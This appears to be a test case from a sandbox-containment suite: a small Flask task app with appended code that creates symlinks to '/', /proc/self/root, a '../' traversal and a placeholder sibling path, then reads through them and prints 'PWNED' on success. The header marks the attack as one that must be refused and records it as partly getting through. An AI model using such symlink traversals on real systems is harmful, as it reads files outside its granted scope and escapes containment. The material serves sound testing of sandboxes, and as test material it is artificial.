# attack: makes symbolic links in its own folder and opens what they point at
# must: refuse
# through: partial
# check: page_loads passed
import uuid
from flask import Flask, g, make_response, render_template_string, request
from flask.views import MethodView
app = Flask(__name__)
TASKS = __TASKS__
PAGE = """<!doctype html><title>My tasks</title>
<ul>{% for task in tasks %}<li>{{ task }}</li>{% endfor %}</ul>
<a href="{{ url_for('home') }}">Home</a>"""
@app.before_request
def tag():
    g.request_id = uuid.uuid4().hex
class HomeView(MethodView):
    def get(self):
        return make_response(render_template_string(PAGE, tasks=TASKS))
app.add_url_rule("/", view_func=HomeView.as_view("home"))
@app.after_request
def stamp(response):
    response.headers["X-Request-ID"] = "placeholder"
    return response

import os
from flask import send_from_directory
away = "__SIBLING__"
for name, target in (("a", away), ("b", os.path.dirname(away)), ("c", "/"), ("d", "../../../../../.." + away),
                     ("e", "/proc/self/root"), ("f", "a")):
    try:
        os.symlink(target, name)
    except OSError as e:
        print("blocked", e)
os.makedirs("static", exist_ok=True)
os.symlink(away, "static/page.html")
with app.test_request_context():
    for name, way in {
        "a": lambda: open("a").read(), "b": lambda: open("b/app.py").read(), "c": lambda: open("c" + away).read(),
        "d": lambda: open("d").read(), "e": lambda: open("e" + away).read(), "f": lambda: open("f").read(),
        "static": lambda: send_from_directory("static", "page.html"),
    }.items():
        try:
            print("PWNED", name, way())
        except Exception as e:
            print("blocked", name, repr(e))
